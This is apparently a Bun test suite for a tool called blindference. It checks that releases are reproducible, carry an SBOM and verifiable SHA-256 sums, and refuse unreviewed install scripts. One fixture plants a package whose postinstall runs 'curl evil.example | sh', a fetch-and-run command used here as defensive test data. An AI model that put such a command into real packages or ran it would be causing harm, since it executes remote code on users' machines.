import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { BuildOptions, BuildResult } from "../../native/build.ts";
import { makeRelease } from "../../native/release.ts";
import { hostTarget } from "../../src/inference/llama/platform.ts";
import { runCli } from "../cli/run-cli.ts";
import { tempDirectory } from "../helpers/temp-directory.ts";
import { root, sha256Of, writeFiles } from "./checkout.ts";

setDefaultTimeout(240_000);

const target = hostTarget();
const sumProgram = [["sha256sum"], ["shasum", "-a", "256"]].find(([name]) => Bun.which(name!));

describe("the release for this machine", () => {
  let directory: ReturnType<typeof tempDirectory>;
  let out: string;
  const lines: string[] = [];

  beforeAll(async () => {
    directory = tempDirectory();
    out = join(directory.path, "release");
    writeFiles(out, { "left-over": "of the release before" });
    await makeRelease({ targets: [target], root, out, print: (line) => lines.push(line) });
  });
  afterAll(() => directory[Symbol.dispose]());

  test("is an executable, its SBOM and a list of sums, and nothing else", () => {
    const entries = readdirSync(out, { recursive: true }).map(String).toSorted();
    const files = [`${target}/blindference`, `${target}/blindference.cdx.json`];
    expect(entries).toEqual(["SHA256SUMS", target, ...files].toSorted());
    expect(lstatSync(join(out, target, "blindference")).mode & 0o777).toBe(0o755);
    expect(lines.filter((line) => line.includes("twice the same"))).toHaveLength(1);
  });

  test("has the sums of all its files", () => {
    const listed = readFileSync(join(out, "SHA256SUMS"), "utf8").trimEnd().split("\n");
    const files = [`${target}/blindference`, `${target}/blindference.cdx.json`];
    expect(listed).toEqual(files.map((file) => `${sha256Of(join(out, file))}  ${file}`));
  });

  test.skipIf(!sumProgram)("is accepted by the system's own program, and not with a byte more", () => {
    const check = () => {
      const { exitCode, stdout } = Bun.spawnSync([...sumProgram!, "-c", "SHA256SUMS"], { cwd: out, stderr: "ignore" });
      return { exitCode, lines: stdout.toString().trimEnd().split("\n") };
    };
    const good = [`${target}/blindference: OK`, `${target}/blindference.cdx.json: OK`];
    expect(check()).toEqual({ exitCode: 0, lines: good });
    const sbom = join(out, target, "blindference.cdx.json");
    const before = readFileSync(sbom);
    writeFileSync(sbom, Buffer.concat([before, Buffer.from(" ")]));
    expect(check()).toMatchObject({ exitCode: 1, lines: [good[0]!, expect.stringContaining("FAILED")] });
    writeFileSync(sbom, before);
  });

  test("works, and its SBOM is about it", async () => {
    const { version } = JSON.parse(readFileSync(join(root, "package.json"), "utf8")) as { version: string };
    const command = [join(out, target, "blindference")];
    expect(await runCli(["--version"], { command })).toMatchObject({ code: 0, stdout: `blindference ${version}\n` });
    const sbom = JSON.parse(readFileSync(join(out, target, "blindference.cdx.json"), "utf8")) as {
      metadata: { component: { version: string; hashes: object[] } };
    };
    expect(sbom.metadata.component).toMatchObject({
      version,
      hashes: [{ alg: "SHA-256", content: sha256Of(command[0]!) }],
    });
  });
});

describe("a release that must not be", () => {
  /** A checkout with one package, and what its builds were asked for. */
  function checkout(files: Record<string, string | object> = {}) {
    const directory = tempDirectory();
    const asked: BuildOptions[] = [];
    for (const name of ["package.json", "bun.lock"]) copyFileSync(join(root, name), join(directory.path, name));
    writeFiles(directory.path, {
      "src/main.ts": "export {};",
      "node_modules/one/package.json": { name: "one", version: "1.0.0" },
      ...files,
    });
    const release = (build: (options: BuildOptions) => BuildResult) =>
      makeRelease({
        targets: [target],
        root: directory.path,
        out: join(directory.path, "dist", "release"),
        print: () => {},
        build: async (options) => {
          asked.push(options);
          return build(options);
        },
      });
    return { directory, asked, release };
  }

  /** Stands for a build: the "executable" is this text. */
  function built(out: string, text: string): BuildResult {
    mkdirSync(dirname(out), { recursive: true });
    writeFileSync(out, text);
    return { out, bytes: text.length, sha256: sha256Of(out) } as BuildResult;
  }

  test("two builds that differ, as by the directory they were made in, give no sums", async () => {
    const { directory, asked, release } = checkout();
    using _ = directory;
    await expect(release(({ root, out }) => built(out, `made in ${root}`))).rejects.toThrow(
      `${target}: two builds differ`,
    );
    expect(asked).toHaveLength(2);
    expect(existsSync(join(directory.path, "dist", "release", "SHA256SUMS"))).toBe(false);
  });

  test("the second build is of a copy of everything elsewhere, which is gone afterwards", async () => {
    const { directory, asked, release } = checkout();
    using _ = directory;
    const seen: object[] = [];
    const look = ({ root, out }: BuildOptions) => {
      const manifest = join(root, "node_modules", "one", "package.json");
      const read = (path: string) => readFileSync(path, "utf8");
      const sources = read(join(root, "src", "main.ts"));
      seen.push({ sources, lock: read(join(root, "bun.lock")), manifest: read(manifest) });
      expect(lstatSync(join(root, "node_modules")).isDirectory()).toBe(true);
      return built(out, String(seen.length));
    };
    await expect(release(look)).rejects.toThrow("two builds differ");
    expect(seen[1]).toEqual(seen[0]!);
    expect(asked.map(({ out }) => out.split("/").at(-1))).toEqual(["blindference", "blindference"]);
    expect(asked[0]!.root).toBe(directory.path);
    expect(asked[1]!.root.startsWith(directory.path)).toBe(false);
    expect(existsSync(asked[1]!.root)).toBe(false);
  });

  test("a package with a script that nobody looked at stops it before anything is built", async () => {
    const planted = { name: "planted", version: "6.6.6", scripts: { postinstall: "curl evil.example | sh" } };
    const { directory, asked, release } = checkout({ "node_modules/planted/package.json": planted });
    using _ = directory;
    await expect(release(({ out }) => built(out, "x"))).rejects.toThrow("planted@6.6.6 would run");
    expect(asked).toEqual([]);
    expect(existsSync(join(directory.path, "dist"))).toBe(false);
  });
});
